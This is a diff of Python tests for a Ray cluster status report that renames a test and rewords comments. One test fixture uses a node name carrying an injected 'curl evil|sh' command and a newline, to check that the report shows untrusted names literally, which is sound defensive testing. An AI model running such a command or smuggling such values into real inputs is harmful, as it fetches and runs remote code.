@@ -70,7 +70,7 @@ def ray_node(name: str, state: str = "ALIVE") -> dict[str, object]:
         (replace(ALIVE, nodes=[ray_node("x;curl evil|sh\nroot")]), [r"x;curl evil|sh\nroot at"]),
     ],
 )
-def test_what_people_have_to_know_about(cluster: ClusterInfo, words: list[str]) -> None:
+def test_notes_for_operators(cluster: ClusterInfo, words: list[str]) -> None:
     result = report(cluster)
     (line,) = [line for line in result["text"] if not line.startswith("Dashboard")]
     assert all(word in line for word in words) and result["fail_when"] == ""
@@ -103,7 +103,7 @@ def test_without_the_head_only_its_log_is_shown() -> None:
 def test_where_the_log_of_a_missing_node_is() -> None:
     plans, removed = KEPT | {"worker-1": planned("create")}, info("alive", "alive", "missing")
     process = {"worker-0": planned(process={"directory": "/home/ml/nodes/worker-0"})}
-    # That of a container that this run has not created is gone with it.
+    # The log of a container that was removed, and that this run has not created again, is gone.
     for cluster, logs, of, end in (
         (removed, {}, plans, "the nodes that are missing"),
         (removed, {"worker-1": ["wrong token"]}, plans, "`docker logs worker-1` shows more"),
@@ -120,7 +120,7 @@ TWO, ONE = info("alive", "alive", "missing"), info("alive", "missing", "differs"
     ("cluster", "least", "goes_on"),
     [
         *((TWO, None, False), (TWO, 1, True), (TWO, 2, False), (ONE, 1, False), (ONE, 0, True)),
-        # More than there are is all of them.
+        # A larger number than there are workers means all of them.
         *((TWO, 7, False), (ALIVE, 7, True)),
         # No number of workers replaces the head.
         *((info("missing", "alive", "alive"), 0, False), (replace(TWO, problem="it is slow"), 0, False)),
